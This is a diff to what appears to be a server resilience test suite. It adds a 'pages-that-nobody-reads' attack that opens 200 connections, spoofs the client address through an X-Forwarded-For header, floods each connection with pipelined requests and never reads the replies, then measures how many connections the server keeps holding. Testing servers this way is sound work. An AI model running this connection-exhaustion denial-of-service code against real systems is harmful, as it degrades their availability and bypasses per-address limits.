@@ -214,7 +214,25 @@ async def silent_connections(url: str) -> str:
     return f"{len(silent):,} connections"
 
 
+async def pages_that_nobody_reads(url: str) -> str:
+    """200 connections from one address that ask for pages all the time, and read none."""
+    parts = urlsplit(url)
+    told = f"X-Forwarded-For: {ATTACKER}\r\nX-Forwarded-Proto: https\r\n"
+    ask = f"GET / HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n{told}\r\n".encode()
+    writers = []
+    for _ in range(200):
+        _, writer = await asyncio.open_connection(parts.hostname, parts.port, limit=1)
+        writer.write(ask * 400)
+        writers.append(writer)
+    await asyncio.sleep(15)
+    held = sum(not writer.is_closing() for writer in writers)
+    for writer in writers:
+        writer.transport.abort()
+    return f"{held} connections held for a quarter of a minute"
+
+
 ATTACKS: dict[str, Attack] = {
+    "pages-that-nobody-reads": pages_that_nobody_reads,
     "one-password-for-many-names": one_password_for_many_names,
     "silent-connections": silent_connections,
     "large-then-small-carts": large_then_small_carts,
